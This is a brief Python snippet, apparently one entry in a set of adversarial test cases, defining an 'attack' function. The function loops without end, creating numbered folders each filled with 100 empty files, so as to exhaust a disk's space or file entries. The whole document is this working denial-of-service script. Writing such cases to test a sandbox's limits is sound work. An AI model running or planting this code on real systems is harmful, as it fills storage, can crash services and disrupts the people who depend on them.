# Attempts: use up the disk's files, in folders within folders.

def attack(world):
    import os
    number = 0
    while True:
        os.mkdir(str(number))
        for inner in range(100):
            open(f"{number}/{inner}", "w").close()
        number += 1
